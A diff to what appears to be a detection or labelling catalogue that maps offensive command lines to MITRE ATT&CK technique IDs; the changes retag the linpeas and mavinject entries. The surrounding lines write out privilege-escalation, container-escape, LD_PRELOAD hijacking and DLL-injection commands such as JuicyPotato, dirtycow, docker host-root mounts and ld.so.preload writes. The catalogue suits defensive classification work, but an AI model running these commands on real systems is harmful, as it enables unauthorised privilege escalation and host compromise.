@@ -168,7 +168,7 @@ ac-printspoofer64-i-cmd cmd +T1134.001: PrintSpoofer64.exe -i -c cmd
 ac-juicypotato-l-p cmd +T1134.001: JuicyPotato.exe -l ‹port› -p C:\Windows\System32\cmd.exe -t *
 ac-godpotato-net4-cmd cmd +T1134.001: GodPotato-NET4.exe -cmd "cmd /c whoami"
 # T1068
-ac-linpeas-sh bash +T1068: ./linpeas.sh
+ac-linpeas-sh bash +T1082: ./linpeas.sh
 ac-gcc-dirtycow-o bash +T1068: gcc dirtycow.c -o /tmp/‹name› -lpthread -lcrypt && /tmp/‹name›
 # T1611
 ac-docker-run-v bash +T1611: docker run -v /:/mnt --rm -it alpine chroot /mnt sh
@@ -177,6 +177,6 @@ ac-nsenter-target-1 bash +T1611: nsenter --target 1 --mount --uts --ipc --net --
 ac-echo-tmp-so bash +T1574.006: echo /tmp/‹name›.so >> /etc/ld.so.preload
 ac-ld-preload-tmp bash +T1574.006: LD_PRELOAD=/tmp/‹name›.so /usr/bin/sudo
 # T1055.001
-ac-mavinject-injectrunning-users cmd +T1055.001: mavinject.exe ‹pid› /INJECTRUNNING C:\Users\Public\‹name›.dll
+ac-mavinject-injectrunning-users cmd +T1218.013: mavinject.exe ‹pid› /INJECTRUNNING C:\Users\Public\‹name›.dll
 """
 )
